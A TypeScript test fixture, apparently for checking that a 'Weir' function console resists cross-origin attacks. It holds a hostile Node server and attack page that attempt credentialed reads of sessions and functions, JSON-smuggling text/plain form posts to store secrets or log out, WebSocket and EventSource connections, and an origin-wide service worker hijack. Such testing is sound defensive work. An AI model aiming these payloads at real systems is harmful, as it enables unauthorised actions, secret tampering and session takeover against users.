/**
 * A function whose page attacks the console at `?console=<origin>` with all that a page may do, and a worker that would
 * stand in front of every page of its origin. `/heard` replies with the heads of all requests that it got, `/quiet` is a
 * page that does nothing by itself, and `/clear?<what>` one whose browser is told to clear that.
 */
export const evilProgram = `
const heard = [];
const page = ${JSON.stringify(attackPage())};
require("node:http").createServer((q, r) => {
  q.resume();
  heard.push({ method: q.method, url: q.url, headers: q.headers });
  r.setHeader("Set-Cookie", ["weir-session=evil; Path=/", "__Host-weir=evil; Path=/; Secure", "own=1; Path=/"]);
  if (q.url === "/heard") return r.end(JSON.stringify(heard));
  if (q.url === "/worker.js") {
    r.setHeader("Content-Type", "text/javascript");
    r.setHeader("Service-Worker-Allowed", "/");
    return r.end("self.addEventListener('fetch', (event) => event.respondWith(new Response('owned')))");
  }
  r.setHeader("Content-Type", "text/html");
  const [path, what] = q.url.split("?");
  if (path === "/clear") r.setHeader("Clear-Site-Data", '"' + decodeURIComponent(what) + '"');
  if (path === "/clear" || path === "/quiet") return r.end("<!doctype html><title>quiet</title>");
  r.end(page);
}).listen(process.env.PORT)`;

/** Outcome of each attack, as its page sees it. */
export interface AttackOutcomes {
  readonly [attack: string]: string;
}

function attackPage(): string {
  return `<!doctype html><title>evil</title><body><script>
const target = new URLSearchParams(location.search).get("console");
const outcomes = {};
const named = (name, attack) => attack().then((value) => { outcomes[name] = String(value) }, (err) => { outcomes[name] = "failed: " + err.name });
const read = (path, init) => fetch(target + path, { credentials: "include", ...init }).then((reply) => reply.type === "opaque" ? "opaque" : reply.text());
const loads = (tag, field, path) => new Promise((resolve) => {
  const element = document.createElement(tag);
  if (tag === "link") element.rel = "stylesheet";
  element[field] = target + path;
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("refused");
  document.body.append(element);
});
const posts = (path) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  document.body.append(frame);
  frame.onload = () => resolve("sent");
  const form = document.createElement("form");
  form.method = "post"; form.action = target + path; form.target = frame.name; form.enctype = "text/plain";
  const field = document.createElement("input");
  field.name = '{"name":"owned","value":"'; field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
});
window.attacked = Promise.all([
  named("read functions", () => read("/system/functions")),
  named("read session", () => read("/auth/session")),
  named("read page", () => read("/ui/")),
  named("try a call", () => read("/ui/try/evil.functions/", { method: "POST", headers: { "X-Weir-Console": "1" } })),
  named("store a secret", () => read("/system/secrets", { method: "POST", mode: "no-cors", body: '{"name":"owned","value":"x"}' })),
  named("delete a function", () => read("/system/functions", { method: "DELETE", body: '{"functionName":"evil"}' })),
  named("beacon", async () => navigator.sendBeacon(target + "/auth/logout", "x")),
  named("form for a secret", () => posts("/system/secrets")),
  named("form for the end of the session", () => posts("/auth/logout")),
  named("script", () => loads("script", "src", "/system/functions")),
  named("image", () => loads("img", "src", "/ui/result/00000000-0000-4000-8000-000000000000")),
  named("sheet", () => loads("link", "href", "/ui/")),
  named("frame", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = target + "/ui/";
    frame.onload = () => { try { resolve(frame.contentDocument === null ? "closed" : frame.contentDocument.body.textContent === "" ? "empty" : "read"); } catch (err) { resolve("failed: " + err.name); } };
    document.body.append(frame);
  })),
  named("stream", () => new Promise((resolve) => {
    const stream = new EventSource(target + "/system/watch?on=functions", { withCredentials: true });
    stream.onopen = () => resolve("open");
    stream.onerror = () => { stream.close(); resolve("refused"); };
  })),
  named("socket", () => new Promise((resolve) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/system/watch");
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  })),
  named("worker", () => navigator.serviceWorker.register("worker.js", { scope: "/" }).then(() => navigator.serviceWorker.ready).then(() => "active")),
]).then(() => outcomes);
</script>`;
}
